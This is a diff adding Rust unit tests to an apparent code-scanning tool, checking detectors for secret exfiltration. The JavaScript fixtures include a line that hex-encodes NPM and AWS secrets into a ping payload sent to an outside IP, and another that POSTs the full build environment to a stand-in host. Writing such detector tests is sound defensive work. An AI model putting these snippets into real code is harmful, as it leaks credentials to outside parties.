@@ -284,3 +284,27 @@ fn modules_that_are_imported_out_of_a_download_are_run() {
     has(Language::Python, &code("/tmp/pack.zip"), "flow-download-run");
     has_not(Language::Python, &code("/opt/plugins"), "flow-download-run");
 }
+
+#[test]
+fn secrets_leave_in_the_bytes_of_a_ping() {
+    let code = |what: &str| {
+        format!(
+            "const {{ execFile }} = require('child_process');\nconst s = [{what}].map(k => process.env[k] || '').join('|');\n\
+             execFile('ping', ['-c', '1', '-p', Buffer.from(s).toString('hex').slice(0, 32), '198.51.100.200'], () => {{}});"
+        )
+    };
+    has(Language::JavaScript, &code("'NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY'"), "flow-dns-exfiltration");
+    has_not(Language::JavaScript, &code("'TERM', 'LANG'"), "flow-dns-exfiltration");
+}
+
+#[test]
+fn a_plugin_is_handed_the_whole_environment_by_its_builder() {
+    let code = |prefix: &str| {
+        format!(
+            "import {{ loadEnv }} from 'vite';\nconst env = loadEnv('production', '/srv/app', {prefix});\n\
+             fetch('https://h.invalid/v1/opt', {{ method: 'POST', body: JSON.stringify(env) }});"
+        )
+    };
+    has(Language::JavaScript, &code("''"), "flow-environment-sent");
+    has_not(Language::JavaScript, &code("'VITE_'"), "flow-environment-sent");
+}
